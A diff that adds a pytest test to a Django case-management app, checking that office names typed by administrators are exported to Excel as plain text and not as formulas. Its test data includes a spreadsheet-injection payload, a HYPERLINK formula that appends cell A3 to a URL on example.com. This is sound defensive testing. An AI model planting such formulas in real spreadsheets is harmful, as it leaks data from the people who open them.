@@ -12,6 +12,7 @@ from cases import outcomes
 from cases.models import Application
 from cases.reports import build_report, exports
 from cases.reports.spec import COLUMNS, ROW_LABELS
+from tests.reports.conftest import at
 
 pytestmark = pytest.mark.django_db
 
@@ -133,3 +134,20 @@ def test_a_breach_is_in_the_files_too(book, township):
     doc = Document(io.BytesIO(exports.to_docx(report)))
     assert any(p.text.startswith("校验错误（第2条）") for p in doc.paragraphs)
     assert "校验错误" in exports.to_csv(report).decode("utf-8-sig")
+
+
+def test_xlsx_holds_text_as_text_never_a_formula(book, township):
+    """An office's name is typed by an office administrator (POST /api/v1/agencies/ for an office
+    under theirs); one beginning with "=" must not become a formula in the supervisor's Excel."""
+    township.name = '=HYPERLINK("http://example.com/?"&A3,"点此核对")'
+    township.short_name = "=1+1"
+    township.save()
+    book.register(date(2025, 3, 3))
+    book.consult("hotline", at(2025, 3, 4), answered_at=at(2025, 3, 4, 11), topic="=2+2")
+    report = build_report(township, 2025)
+    wb = load_workbook(io.BytesIO(exports.to_xlsx(report)))
+    cells = [c for ws in wb for row in ws.iter_rows() for c in row if c.value is not None]
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    texts = [c.value for c in cells if isinstance(c.value, str)]
+    assert exports.title(report) in texts
+    assert exports.title(report).startswith("=HYPERLINK(")
